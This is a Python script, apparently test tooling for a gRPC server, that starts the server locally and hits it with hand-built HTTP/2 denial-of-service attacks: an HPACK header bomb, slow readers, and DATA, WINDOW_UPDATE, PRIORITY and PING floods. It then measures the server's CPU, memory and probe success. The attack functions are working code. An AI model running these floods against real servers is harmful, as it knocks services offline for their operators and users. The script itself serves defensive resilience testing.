"""Hostile HTTP/2 peers against a gRPC server, with the server's CPU and memory measured.

Usage:
    attacks.py [--server BIN] [--seconds S] [--only NAME[,NAME]] [--json FILE]

Each attack starts a fresh `BIN serve --proto grpc --port 0` (default: the release rpcbench-server),
sends hand-built HTTP/2 frames for S seconds (default 8), then leaves. Meanwhile a separate process
makes one normal unary call on a fresh connection every second (2 s deadline), during the attack and
for 3 s after it. Reported per attack: the server's CPU seconds during the attack and in the 3 s
after, its peak RSS growth (VmHWM) and its RSS after the attacker left, probe calls that succeeded,
and what the attacker was told (GOAWAY and its code, RST_STREAM codes, responses, connection closed).

The numbers are measurements to report, not pass/fail bounds (they depend on the machine); the
behaviour the server must show is asserted by the raw-frame tests in `swift test`.
"""
import argparse
import json
import multiprocessing
import os
import re
import socket
import struct
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(ROOT, "scripts", "rpcbench"))

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
               9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first_byte_flags):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, indexing=False):
    """A literal header field with a new name (RFC 7541 §6.2.1 / §6.2.2), no Huffman coding."""
    name, value = name.encode(), value.encode()
    head = b"\x40" if indexing else b"\x00"
    return head + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def request_block(path, extra=b""):
    return (literal(":method", "POST") + literal(":scheme", "http") + literal(":path", path)
            + literal(":authority", "localhost") + literal("content-type", "application/grpc")
            + literal("te", "trailers") + extra)


def grpc_message(payload):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def varint(v):
    out = bytearray()
    while v >= 0x80:
        out.append((v & 0x7F) | 0x80)
        v >>= 7
    out.append(v)
    return bytes(out)


class Peer:
    """One raw HTTP/2 client connection; a thread reads (or, for slow readers, never reads) and
    counts what the server sends."""

    def __init__(self, port, read=True, window=None):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.seen = {"goaway": None, "rst": {}, "headers": 0, "data_bytes": 0, "closed": False}
        self.lock = threading.Lock()
        self.send_lock = threading.Lock()  # the reader thread's SETTINGS ACK must not land inside a frame
        settings = b""
        if window is not None:
            settings = struct.pack(">HI", 4, window)  # SETTINGS_INITIAL_WINDOW_SIZE
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        if window is not None:
            self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
        self.next_stream = 1
        if read:
            threading.Thread(target=self._read, daemon=True).start()

    def send(self, data):
        try:
            with self.send_lock:
                self.sock.sendall(data)
            return True
        except OSError:
            with self.lock:
                self.seen["closed"] = True
            return False

    def stream(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def _read(self):
        buf = b""
        acked = False
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                with self.lock:
                    self.seen["closed"] = True
                return
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                kind, flags = buf[3], buf[4]
                payload = buf[9:9 + length]
                buf = buf[9 + length:]
                with self.lock:
                    if kind == SETTINGS and not flags & ACK and not acked:
                        acked = True
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == GOAWAY and len(payload) >= 8:
                        code = int.from_bytes(payload[4:8], "big")
                        self.seen["goaway"] = ERROR_NAMES.get(code, str(code))
                    elif kind == RST_STREAM and len(payload) >= 4:
                        name = ERROR_NAMES.get(int.from_bytes(payload[:4], "big"), "?")
                        self.seen["rst"][name] = self.seen["rst"].get(name, 0) + 1
                    elif kind == HEADERS:
                        self.seen["headers"] += 1
                    elif kind == DATA:
                        self.seen["data_bytes"] += length

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# --- attacks: each runs until `deadline` and returns the peers whose observations are reported ---

def hpack_bomb(port, deadline):
    """One 4 KiB header put in the dynamic table, then header blocks that reference it 16,000 times."""
    peer = Peer(port)
    sid = peer.stream()
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, sid,
                    request_block("/bench.Echo/Unary", literal("x-bomb", "a" * 4000, indexing=True))))
    bomb = request_block("/bench.Echo/Unary") + b"\xbe" * 16000  # indexed field 62: the 4 KiB header
    while time.monotonic() < deadline:
        if not peer.send(frame(HEADERS, END_HEADERS | END_STREAM, peer.stream(), bomb)):
            break
    return [peer]


def slow_reader(port, deadline, connections=1, streams=100):
    """Streams that ask Download for large messages and never read: the TCP window closes."""
    request = grpc_message(b"\x08" + varint(65536) + b"\x10" + varint(1_000_000))
    peers = []
    for _ in range(connections):
        peer = Peer(port, read=False, window=(1 << 31) - 1)
        for _ in range(streams):
            sid = peer.stream()
            peer.send(frame(HEADERS, END_HEADERS, sid, request_block("/bench.Echo/Download"))
                      + frame(DATA, END_STREAM, sid, request))
        peers.append(peer)
    while time.monotonic() < deadline:
        time.sleep(0.1)
    return peers


def flood(make_frame, open_stream):
    def attack(port, deadline):
        peer = Peer(port)
        sid = peer.stream()
        if open_stream:
            peer.send(frame(HEADERS, END_HEADERS, sid, request_block("/bench.Echo/PingPong")))
        batch = make_frame(sid) * 4096
        while time.monotonic() < deadline:
            if not peer.send(batch):
                break
        return [peer]
    return attack


ATTACKS = {
    "hpack-bomb": hpack_bomb,
    "slow-reader-1x100": lambda port, deadline: slow_reader(port, deadline, 1, 100),
    "slow-readers-20x20": lambda port, deadline: slow_reader(port, deadline, 20, 20),
    "empty-data-flood": flood(lambda sid: frame(DATA, 0, sid), open_stream=True),
    "window-update-flood": flood(lambda sid: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), open_stream=False),
    "priority-flood": flood(lambda sid: frame(PRIORITY, 0, sid, struct.pack(">IB", 0, 15)), open_stream=True),
    "ping-flood": flood(lambda sid: frame(PING, 0, 0, b"\x00" * 8), open_stream=False),
}


# --- measurement ---

def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def memory_kib(pid):
    values = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(("VmRSS:", "VmHWM:")):
                values[line.split(":")[0]] = int(line.split()[1])
    return values


def probe_loop(port, stop_at, results):
    import grpc
    from bench_stubs import load
    bench_pb2, bench_pb2_grpc = load()
    while time.monotonic() < stop_at:
        started = time.monotonic()
        ok = False
        try:
            with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
                stub = bench_pb2_grpc.EchoStub(channel)
                ok = stub.Unary(bench_pb2.Payload(body=b"probe"), timeout=2).body == b"probe"
        except Exception:  # noqa: BLE001 — a failed probe is what is counted
            ok = False
        results.append(ok)
        time.sleep(max(0.0, 1.0 - (time.monotonic() - started)))


def start_server(binary):
    proc = subprocess.Popen([binary, "serve", "--proto", "grpc", "--port", "0"],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    line = proc.stdout.readline()
    match = re.search(r":(\d+) \(pid (\d+)\)", line)
    if not match:
        proc.kill()
        sys.exit(f"attacks: the server did not start: {line!r}")
    return proc, int(match.group(1))


def run(name, binary, seconds):
    proc, port = start_server(binary)
    pid = proc.pid
    time.sleep(0.5)  # let the server settle so that its start-up is not counted
    base_mem = memory_kib(pid)
    cpu0 = cpu_seconds(pid)
    manager = multiprocessing.Manager()
    probes = manager.list()
    after = 3.0
    deadline = time.monotonic() + seconds
    prober = multiprocessing.Process(target=probe_loop, args=(port, deadline + after, probes))
    prober.start()
    peers = ATTACKS[name](port, deadline)
    cpu_attack = cpu_seconds(pid) - cpu0
    hwm = memory_kib(pid)["VmHWM"]
    seen = []
    for p in peers:  # what the server did before the attacker left
        with p.lock:
            seen.append(json.loads(json.dumps(p.seen)))
    for p in peers:
        p.close()
    cpu1 = cpu_seconds(pid)
    time.sleep(after)
    cpu_after = cpu_seconds(pid) - cpu1
    rss_after = memory_kib(pid)["VmRSS"]
    prober.join()
    proc.terminate()
    proc.wait()
    goaways = sorted({s["goaway"] for s in seen if s["goaway"]})
    rst = {}
    for s in seen:
        for code, n in s["rst"].items():
            rst[code] = rst.get(code, 0) + n
    return {
        "attack": name, "seconds": seconds,
        "server_cpu_s": round(cpu_attack, 2), "server_cpu_after_s": round(cpu_after, 2),
        "peak_rss_growth_mib": round((hwm - base_mem["VmRSS"]) / 1024, 1),
        "rss_after_mib": round(rss_after / 1024, 1), "rss_before_mib": round(base_mem["VmRSS"] / 1024, 1),
        "probes_ok": sum(1 for ok in probes if ok), "probes": len(probes),
        "goaway": goaways, "rst_stream": rst, "responses": sum(s["headers"] for s in seen),
        "closed_by_server": sum(1 for s in seen if s["closed"]),
    }


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--server", default=os.path.join(ROOT, ".build", "release", "rpcbench-server"))
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--only", default="")
    parser.add_argument("--json")
    args = parser.parse_args()
    names = [n for n in args.only.split(",") if n] or list(ATTACKS)
    for n in names:
        if n not in ATTACKS:
            sys.exit(f"attacks: unknown attack {n}; known: {', '.join(ATTACKS)}")
    results = []
    print(f"{'attack':<22} {'cpu s':>6} {'cpu after':>9} {'peak RSS +MiB':>13} {'RSS after':>9} "
          f"{'probes ok':>9}  reaction")
    for n in names:
        r = run(n, args.server, args.seconds)
        results.append(r)
        reaction = []
        if r["goaway"]:
            reaction.append("GOAWAY " + "/".join(r["goaway"]))
        if r["rst_stream"]:
            reaction.append("RST " + ", ".join(f"{k}×{v}" for k, v in r["rst_stream"].items()))
        if r["responses"]:
            reaction.append(f"{r['responses']} HEADERS")
        if r["closed_by_server"]:
            reaction.append(f"closed {r['closed_by_server']}")
        print(f"{n:<22} {r['server_cpu_s']:>6} {r['server_cpu_after_s']:>9} {r['peak_rss_growth_mib']:>13} "
              f"{r['rss_after_mib']:>9} {r['probes_ok']:>4}/{r['probes']:<4}  {'; '.join(reaction) or 'none'}",
              flush=True)
    if args.json:
        with open(args.json, "w") as f:
            json.dump(results, f, indent=2)


if __name__ == "__main__":
    main()
